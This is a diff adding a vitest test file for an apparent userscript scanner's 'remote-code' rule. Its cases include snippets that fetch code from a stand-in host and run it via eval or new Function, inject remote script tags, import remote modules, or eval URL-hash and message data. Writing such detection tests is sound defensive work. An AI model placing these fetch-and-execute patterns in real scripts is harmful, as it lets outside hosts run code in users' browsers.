@@ -1,0 +1,68 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { remoteCode } from "./remote-code.ts";
+
+describe("remote-code", () => {
+	test.each([
+		[
+			"fetched text run by eval",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch("https://c.stranger.test/x").then(r=>r.text()).then(t=>eval(t))`,
+			),
+		],
+		[
+			"fetched text run by Function",
+			["critical 7"],
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
+				`GM_xmlhttpRequest({url:"https://api.helper.example/x",onload:r=>new Function(r.responseText)()})`,
+			),
+		],
+		[
+			"a script element",
+			["high 1"],
+			`var s=document.createElement("script");s.src="https://c.stranger.test/x.js";document.body.appendChild(s)`,
+		],
+		[
+			"a library without a version",
+			["medium 1"],
+			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/dayjs/dayjs.min.js";document.body.appendChild(s)`,
+		],
+		["an import", ["high 5"], userscript(["match https://shop.example/*"], `import("https://c.stranger.test/x.mjs")`)],
+		[
+			"the address bar as code",
+			["high 5"],
+			userscript(["match https://shop.example/*"], `eval(decodeURIComponent(location.hash.slice(1)))`),
+		],
+		["messages as code", ["high 5"], userscript(["match https://shop.example/*"], `onmessage=e=>setTimeout(e.data,0)`)],
+		[
+			"a library in an exact version: told",
+			["low 1"],
+			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/dayjs@1.11.10/dayjs.min.js";document.body.appendChild(s)`,
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(remoteCode, code)).toEqual(expected);
+	});
+
+	test.each([
+		[
+			"a script of the site",
+			userscript(
+				["match https://shop.example/*"],
+				`const s=document.createElement("script");s.src="/app.js";document.body.append(s)`,
+			),
+		],
+		["code written in the script", userscript(["match https://shop.example/*"], `new Function("return 1+1")()`)],
+		[
+			"fetched data",
+			userscript(
+				["match https://shop.example/*"],
+				`fetch("https://c.stranger.test/x.json").then(r=>r.json()).then(d=>{document.title=d.name})`,
+			),
+		],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(remoteCode, code)).toEqual([]);
+	});
+});
